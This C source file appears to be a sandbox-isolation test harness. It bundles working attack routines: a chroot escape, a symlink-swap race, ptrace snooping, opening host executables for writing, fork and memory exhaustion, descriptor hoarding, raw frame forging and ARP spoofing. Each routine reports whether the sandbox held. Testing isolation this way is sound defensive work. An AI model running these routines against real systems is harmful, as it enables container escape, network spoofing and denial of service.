/* attack: what a shell cannot do of the attacks in this folder; static, in the image of every attacker, a few lines
 * each. What is printed last begins with "held" if the attack failed and with "won" if it did not; `call` prints the
 * name of the errno alone. Run as `attack NAME ARGUMENT...`. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/timex.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int held(const char *why) { return printf("held: %s\n", why), 0; }
static int won(const char *what) { return printf("won: %s\n", what), 0; }
static const char *name_of(int e) { return strerrorname_np(e); }

/* call NUMBER ARGUMENT...: one system call; "=text" is a string's address, "@" that of 4096 zeros. */
static int call(char **arg)
{
	static char zeros[4096];
	long a[7] = { 0 };

	for (int i = 0; i < 7 && arg[i]; i++)
		a[i] = arg[i][0] == '=' ? (long)(arg[i] + 1) : arg[i][0] == '@' ? (long)zeros : strtoll(arg[i], NULL, 0);
	long ret = syscall(a[0], a[1], a[2], a[3], a[4], a[5], a[6]);
	puts(ret < 0 ? name_of(errno) : "ok");
	return 0;
}

/* node PATH, pose PATH: make a device node; have the same path at the same address, and wait. */
static char path_of_node[64];

static int node(char **arg)
{
	strncpy(path_of_node, arg[0], sizeof path_of_node - 1);
	return mknod(path_of_node, S_IFCHR | 0644, 0x103) ? held(name_of(errno)) : won(arg[0]);
}

static int pose(char **arg)
{
	strncpy(path_of_node, arg[0], sizeof path_of_node - 1);
	puts("posing");
	fflush(stdout);
	return pause();
}

/* climb: out of a root directory that is only a directory. */
static int climb(char **arg)
{
	int top = open("/", O_RDONLY | O_DIRECTORY);
	struct stat before, after;

	(void)arg;
	mkdir("/tmp/below", 0755);
	if (fstat(top, &before) || chroot("/tmp/below") || fchdir(top))
		return held(name_of(errno));
	for (int i = 0; i < 64; i++)
		if (chdir(".."))
			break;
	if (chroot(".") || stat("/", &after))
		return held(name_of(errno));
	return before.st_dev == after.st_dev && before.st_ino == after.st_ino ? held("the same root") : won("another root");
}

/* swap A B: exchange two names as fast as it goes, until killed. */
static int swap(char **arg)
{
	for (;;)
		renameat2(AT_FDCWD, arg[0], AT_FDCWD, arg[1], RENAME_EXCHANGE);
	return 0;
}

/* chase PID DIRECTORY TARGET UID: in the tree of a process whose start is under way, as soon as the directory is
 * there, swap "a" in it between a directory and a link to TARGET, until killed. */
static int chase(char **arg)
{
	char path[300];
	int dir, uid = atoi(arg[3]);

	snprintf(path, sizeof path, "/proc/%s/cwd%s", arg[0], arg[1]);
	while ((dir = open(path, O_RDONLY | O_DIRECTORY)) < 0)
		if (errno != ENOENT && errno != EACCES)
			return 1;
	if (setresgid(uid, uid, uid) || setresuid(uid, uid, uid))
		return 1;
	for (;;) {
		mkdirat(dir, "a", 0777);
		symlinkat(arg[2], dir, "z");
		renameat2(dir, "a", dir, "z", RENAME_EXCHANGE);
	}
}

/* What a link in a process' /proc/PID says, if it is not of this container. */
static int foreign(const char *path)
{
	char to[4096];
	ssize_t n = readlink(path, to, sizeof to - 1);

	if (n < 0)
		return 0;
	to[n] = 0;
	if (!strncmp(to, "pipe:", 5) || !strncmp(to, "/dev/", 5) || access(to, F_OK) == 0)
		return 0;
	printf("won: %s -> %s\n", path, to);
	return 1;
}

/* Trace a process for a moment, in a child whose end lets it go. */
static int traced(int pid)
{
	int status = 0;
	pid_t child = fork();

	if (child == 0)
		_exit(ptrace(PTRACE_SEIZE, pid, 0, 0) ? 1 : 0);
	return child > 0 && waitpid(child, &status, 0) == child && status == 0;
}

/* spy SECONDS: trace every process that appears, and read what it has open, its memory, its environment. */
static int spy(char **arg)
{
	char path[300];

	puts("spying");
	fflush(stdout);
	time_t end = time(NULL) + atoi(arg[0]);
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		for (struct dirent *e; (e = readdir(d));) {
			int pid = atoi(e->d_name);
			if (pid < 2 || pid == getpid())
				continue;
			for (int fd = 0; fd < 64; fd++) {
				snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
				if (foreign(path))
					return 0;
			}
			snprintf(path, sizeof path, "/proc/%d/cwd", pid);
			if (foreign(path))
				return 0;
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			if (foreign(path))
				return 0;
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			if (traced(pid) && foreign(path))
				return 0;
		}
		closedir(d);
	}
	return held("nothing of the host was seen");
}

/* hold SECONDS: trace every process that appears, and let none of them go, not even when it has ended. */
static int hold(char **arg)
{
	int count = 0;

	puts("holding");
	fflush(stdout);
	for (time_t end = time(NULL) + atoi(arg[0]); time(NULL) < end;) {
		DIR *d = opendir("/proc");
		for (struct dirent *e; (e = readdir(d));)
			if (atoi(e->d_name) > 1)
				count += ptrace(PTRACE_SEIZE, atoi(e->d_name), 0, 0) == 0;
		closedir(d);
	}
	printf("held %d of them\n", count);
	fflush(stdout);
	return 0;
}

/* overwrite SECONDS: open the executable of every process for writing. */
static int overwrite(char **arg)
{
	char path[300], to[4096];

	puts("spying");
	fflush(stdout);
	time_t end = time(NULL) + atoi(arg[0]);
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		for (struct dirent *e; (e = readdir(d));) {
			snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
			int keep = open(path, O_PATH), fd = open(path, O_WRONLY);
			ssize_t n = readlink(path, to, sizeof to - 1);
			if (fd < 0 && keep >= 0) { /* again when nobody executes it any more */
				snprintf(path, sizeof path, "/proc/self/fd/%d", keep);
				fd = open(path, O_WRONLY);
			}
			to[n < 0 ? 0 : n] = 0;
			if (fd >= 0 && n > 0 && access(to, F_OK) && !strstr(to, "(deleted)"))
				return won(to);
			if (fd >= 0)
				close(fd);
			if (keep >= 0)
				close(keep);
		}
		closedir(d);
	}
	return held("no executable of the host could be opened");
}

/* connections PATH COUNT: as many connections as it takes, each with half a frame, held until killed. */
static int connections(char **arg)
{
	struct sockaddr_un to = { .sun_family = AF_UNIX };
	int count = 0;

	strncpy(to.sun_path, arg[0], sizeof to.sun_path - 1);
	for (int i = 0; i < atoi(arg[1]); i++) {
		int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
		if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof to))
			continue;
		count += write(fd, "\0\0", 2) == 2;
	}
	printf("%d connections\n", count);
	fflush(stdout);
	pause();
	return 0;
}

/* forks COUNT: so many processes at once. */
static int forks(char **arg)
{
	int count = 0, wanted = atoi(arg[0]), why = 0;

	setpgid(0, 0);
	while (count < wanted) {
		pid_t pid = fork();
		if (pid == 0)
			pause();
		if (pid < 0) {
			why = errno;
			break;
		}
		count++;
	}
	printf("%s: %d processes, %s\n", count < wanted ? "held" : "won", count, why ? name_of(why) : "no end");
	fflush(stdout);
	signal(SIGTERM, SIG_IGN);
	kill(0, SIGKILL);
	return 0;
}

/* memory MEGABYTES: touch every page of so much. */
static int memory(char **arg)
{
	size_t size = (size_t)atoi(arg[0]) << 20;
	char *at = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);

	if (at == MAP_FAILED)
		return held(name_of(errno));
	for (size_t i = 0; i < size; i += 4096)
		at[i] = 1;
	return won("all of it");
}

/* files DIRECTORY COUNT: so many empty files. */
static int files(char **arg)
{
	char path[300];
	int count = 0, wanted = atoi(arg[1]);

	for (int fd; count < wanted; count++) {
		snprintf(path, sizeof path, "%s/%d", arg[0], count);
		fd = open(path, O_WRONLY | O_CREAT, 0600);
		if (fd < 0)
			break;
		close(fd);
	}
	printf("%s: %d files\n", count < wanted ? "held" : "won", count);
	return 0;
}

/* One more group, whose pressure is watched. */
static int group(int n)
{
	char path[64];

	snprintf(path, sizeof path, "/sys/fs/cgroup/hoard%d", n);
	if (mkdir(path, 0755))
		return -1;
	strcat(path, "/memory.pressure");
	int fd = open(path, O_RDWR);
	return fd < 0 || write(fd, "some 150000 1000000", 20) < 0 ? -1 : fd;
}

/* hoard watchers|files|groups: as many as there are for one process, held until killed. */
static int hoard(char **arg)
{
	struct rlimit most;
	int count = 0, what = arg[0][0];

	getrlimit(RLIMIT_NOFILE, &most);
	most.rlim_cur = most.rlim_max;
	setrlimit(RLIMIT_NOFILE, &most);
	while ((what == 'w' ? inotify_init1(0) : what == 'f' ? open("/", O_PATH) : group(count)) >= 0)
		count++;
	printf("%d %s, then %s\n", count, arg[0], name_of(errno));
	fflush(stdout);
	return pause();
}

/* ring MEGABYTES: so much memory for the frames of one packet socket. */
static int ring(char **arg)
{
	unsigned int block = 1 << 16, frame = 2048, blocks = atoi(arg[0]) << 4;
	struct tpacket_req wanted = { .tp_block_size = block, .tp_block_nr = blocks, .tp_frame_size = frame,
				      .tp_frame_nr = block / frame * blocks };
	int fd = socket(AF_PACKET, SOCK_RAW, 0);

	return fd < 0 || setsockopt(fd, SOL_PACKET, PACKET_RX_RING, &wanted, sizeof wanted) ? held(name_of(errno))
											     : won(arg[0]);
}

/* tick: set the length of the clock's tick, to what it is. */
static int tick(char **arg)
{
	struct timex now = { 0 };

	(void)arg;
	if (adjtimex(&now) < 0)
		return held(name_of(errno));
	now.modes = ADJ_TICK;
	return adjtimex(&now) < 0 ? held(name_of(errno)) : won("the clock's tick");
}

/* A socket that sends and hears whole frames of a link. */
static int wire(const char *link)
{
	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL),
				  .sll_ifindex = if_nametoindex(link) };
	int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));

	return fd < 0 || bind(fd, (struct sockaddr *)&to, sizeof to) ? -1 : fd;
}

static void mac(const char *text, unsigned char *into)
{
	sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", into, into + 1, into + 2, into + 3, into + 4, into + 5);
}

/* frame LINK TO-MAC FROM-MAC FROM-IP TO-IP PORT TEXT: a datagram in a frame of our own making. */
static int frame(char **arg)
{
	unsigned char f[256] = { [12] = 8, [14] = 0x45, [22] = 64, [23] = IPPROTO_UDP, [35] = 7 };
	int fd = wire(arg[0]), text = strlen(arg[6]), port = atoi(arg[5]), sum = 0;

	mac(arg[1], f);
	mac(arg[2], f + 6);
	f[17] = 28 + text;
	inet_pton(AF_INET, arg[3], f + 26);
	inet_pton(AF_INET, arg[4], f + 30);
	for (int i = 14; i < 34; i += 2)
		sum += f[i] << 8 | f[i + 1];
	sum = (sum & 0xffff) + (sum >> 16);
	f[24] = ~sum >> 8;
	f[25] = ~sum;
	f[36] = port >> 8;
	f[37] = port;
	f[39] = 8 + text;
	memcpy(f + 42, arg[6], text);
	puts(send(fd, f, 42 + text, 0) < 0 ? name_of(errno) : "sent");
	return 0;
}

/* arp LINK FROM-MAC IP ASKED: ask everybody for ASKED, and say that IP is at FROM-MAC. */
static int arp(char **arg)
{
	unsigned char f[42] = { [12] = 8, 6, 0, 1, 8, 0, 6, 4, 0, 1 };

	memset(f, 0xff, 6);
	mac(arg[1], f + 6);
	mac(arg[1], f + 22);
	inet_pton(AF_INET, arg[2], f + 28);
	inet_pton(AF_INET, arg[3], f + 38);
	puts(send(wire(arg[0]), f, sizeof f, 0) < 0 ? name_of(errno) : "sent");
	return 0;
}

/* hear LINK SECONDS TEXT: whether a frame with it comes in. */
static int hear(char **arg)
{
	struct timeval second = { .tv_sec = 1 };
	time_t end = time(NULL) + atoi(arg[1]);
	char f[2048];
	int fd = wire(arg[0]);

	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &second, sizeof second);
	for (puts("listening"), fflush(stdout); time(NULL) < end;) {
		struct sockaddr_ll from;
		socklen_t size = sizeof from;
		ssize_t n = recvfrom(fd, f, sizeof f, 0, (struct sockaddr *)&from, &size);
		if (n > 0 && from.sll_pkttype != PACKET_OUTGOING && memmem(f, n, arg[2], strlen(arg[2])))
			return puts("heard"), 0;
	}
	return 0;
}

static const struct {
	const char *name;
	int (*run)(char **);
	int least;
} attacks[] = {
	{ "call", call, 1 }, { "node", node, 1 }, { "pose", pose, 1 }, { "climb", climb, 0 }, { "swap", swap, 2 },
	{ "chase", chase, 4 }, { "spy", spy, 1 }, { "hold", hold, 1 },
	{ "overwrite", overwrite, 1 }, { "connections", connections, 2 }, { "forks", forks, 1 }, { "memory", memory, 1 },
	{ "tick", tick, 0 }, { "hoard", hoard, 1 }, { "ring", ring, 1 }, { "files", files, 2 }, { "frame", frame, 7 }, { "arp", arp, 4 }, { "hear", hear, 3 },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof attacks / sizeof *attacks; i++)
		if (!strcmp(argv[1], attacks[i].name) && argc - 2 >= attacks[i].least)
			return attacks[i].run(argv + 2);
	fprintf(stderr, "attack: no such attack, or too few arguments\n");
	return 2;
}
